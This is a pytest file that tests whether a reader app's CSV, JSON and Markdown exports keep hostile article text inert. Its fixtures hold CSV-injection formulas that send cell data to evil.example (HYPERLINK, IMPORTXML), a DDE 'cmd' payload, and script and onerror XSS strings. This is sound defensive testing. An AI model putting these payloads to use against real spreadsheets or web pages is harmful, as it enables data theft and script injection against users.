"""Exports are safe to open: hostile article text stays text.

Titles, quotations, tags, entity names and notes written to attack what
opens the file: a spreadsheet (formulas, OWASP's CSV injection) and a
Markdown viewer (links, images, raw HTML, emphasis, code, tables). JSON is
for programs and stays exact.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from db.records import ArticleRecord, MentionRecord, QuoteRecord
from db.store import Store
from reader.export import _md, export
from reader.library import Library
from reader.safe_text import visible
from tests.conftest import store_understood

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
WHAT = ["articles", "quotes", "entities", "highlights"]

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
MARKDOWN_TITLE = "# Breaking [click](http://evil.example) <b>bold</b> | *not em*"
QUOTES = [
    "+cmd|' /C calc'!A0 [link](http://evil.example) ![img](http://evil.example/x.png)",
    "@SUM(1+1) <script>alert(1)</script> &amp; `code` ~~gone~~ $x$ _em_ | pipe \\ slash",
    "-2+3 <img src=x onerror=alert(1)>",
    "\t=1+1 after a tab",
    "\r=2+2 after a carriage return",
]
SPEAKER = "-Minus Person"
ORG = "@Evil <i>Corp</i>"
TAGS = ["=1+1", "~~gone~~ **bold** <b>x</b>"]
USER_TAG = "+user [tag](http://evil.example)"
NOTE = '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a") [a](javascript:alert(1))'


def _article(title: str, quotes: list[str], path: str, **extra) -> tuple:
    text = title + "\n\n"
    spans = []
    for quote in quotes:
        text += 'Said "'
        spans.append((len(text), len(text) + len(quote)))
        text += quote + '" ' + SPEAKER + ".\n\n"
    text += ORG + " did not answer.\n"
    org = text.index(ORG)
    record = ArticleRecord(
        path=path,
        text=text,
        encoding="utf-8",
        content_hash=hashlib.sha256(text.encode()).hexdigest(),
        title=title,
        lang="en",
        **extra,
    )
    mentions = [
        MentionRecord("minus person", "PER", SPEAKER, *_at(text, SPEAKER)),
        MentionRecord("evil corp", "ORG", ORG, org, org + len(ORG)),
    ]
    quotes = [QuoteRecord(s, e, speaker=SPEAKER, speaker_key="minus person") for s, e in spans]
    return record, mentions, quotes


def _at(text: str, phrase: str) -> tuple[int, int]:
    start = text.index(phrase)
    return start, start + len(phrase)


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> dict[tuple[str, str], str]:
    """Every export of a library whose every exported text field is hostile."""
    path = tmp_path_factory.mktemp("hostile") / "reader.db"
    with Store(path) as store:
        first, second = store_understood(
            store,
            [
                _article(FORMULA_TITLE, QUOTES[:3], "/x/=evil|.txt", source="@evil", tags=TAGS),
                _article(MARKDOWN_TITLE, QUOTES[3:], "/x/second.txt"),
            ],
        )
    with Library(path) as library:
        library.add_tag(first, USER_TAG)
        library.add_highlight(second, *_at(library.article(second).text, QUOTES[3]), note=NOTE)
        library.add_highlight(first, *_at(library.article(first).text, QUOTES[0]), note="-")
        return {(what, fmt): export(library, what, fmt) for what in WHAT for fmt in FORMATS}


FORMATS = ["json", "csv", "md"]
# Every hostile value, and the exports it appears in.
HOSTILE = {
    FORMULA_TITLE: ["articles", "quotes", "highlights"],
    MARKDOWN_TITLE: ["articles", "quotes", "highlights"],
    **{quote: ["quotes"] for quote in QUOTES},
    SPEAKER: ["quotes", "entities"],
    ORG: ["entities"],
    NOTE: ["highlights"],
    USER_TAG: ["highlights"],  # the tags its article was given, beside each highlight
}


@pytest.mark.parametrize("what", WHAT)
def test_no_csv_cell_starts_a_formula(exported, what):
    _header, *rows = csv.reader(io.StringIO(exported[what, "csv"]))
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (what, cell)


def test_csv_keeps_the_value_after_the_quote_mark(exported):
    cells = {
        what: [cell for row in csv.reader(io.StringIO(exported[what, "csv"])) for cell in row]
        for what in WHAT
    }
    for value, where in HOSTILE.items():
        shown = visible(value)
        for what in where:
            expected = "'" + shown if value.startswith(FORMULA_START) else shown
            assert expected in cells[what], (what, value)
    assert "'-" in cells["highlights"]  # a note of one minus sign


def test_a_csv_list_cell_is_judged_as_a_whole(exported):
    """The tags cell is "a; b": what starts it is the first tag."""
    rows = json.loads(exported["articles", "json"])
    tags = next(r["tags"] for r in rows if r["title"] == FORMULA_TITLE)
    assert tags[0].startswith(FORMULA_START)
    cells = [row[-1] for row in csv.reader(io.StringIO(exported["articles", "csv"]))]
    assert "'" + "; ".join(tags) in cells


@pytest.mark.parametrize("what", WHAT)
def test_json_is_exact(exported, what):
    values = json.dumps(json.loads(exported[what, "json"]), ensure_ascii=False)
    for value, where in HOSTILE.items():
        if what in where:
            assert json.dumps(value, ensure_ascii=False) in values, (what, value)


def test_json_tags_are_exact(exported):
    rows = json.loads(exported["articles", "json"])
    assert sorted(next(r["tags"] for r in rows if r["title"] == FORMULA_TITLE)) == sorted(
        [*TAGS, USER_TAG]
    )


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def _as_html_text(value: str) -> str:
    """``value`` as a Markdown renderer writes plain text: on one line, escaped for HTML."""
    text = " ".join(visible(value).split())
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


@pytest.mark.parametrize("what", WHAT)
def test_markdown_renders_the_text_as_written(exported, what):
    html = _rendered(exported[what, "md"])
    tags = [*TAGS, USER_TAG] if what == "articles" else []
    for value in [*(v for v, where in HOSTILE.items() if what in where), *tags]:
        assert _as_html_text(value) in html, (what, value, html)
    for tag in ("<a ", "<img", "<script", "<b>", "<i>", "<code", "<del", "<s>", "<h2"):
        assert tag not in html, (what, tag)
    assert html.count("<h1>") == 1  # the export's own title
    if what == "quotes":
        # Our own emphasis only: the speaker in bold, the article's title in italics.
        assert html.count("<strong>") == html.count("<em>") == len(QUOTES)
    else:
        assert "<strong>" not in html and "<em>" not in html
        lines = exported[what, "md"].splitlines()
        header, rows = lines[2], lines[4:]
        # No pipe in a value split a cell.
        assert html.count("<td") == (header.count(" | ") + 1) * len(rows)


@given(st.text(alphabet="ab1 _*[]()<>&#;!`\\|~$-+=:/.\n\té", max_size=40))
def test_any_text_renders_as_itself_in_markdown(text):
    """Whatever the text, the Markdown of it reads back as that text."""
    html = _rendered(f"said {_md(text)}")
    assert html == f"<p>said {_as_html_text(text)}</p>\n".replace("said </p>", "said</p>")
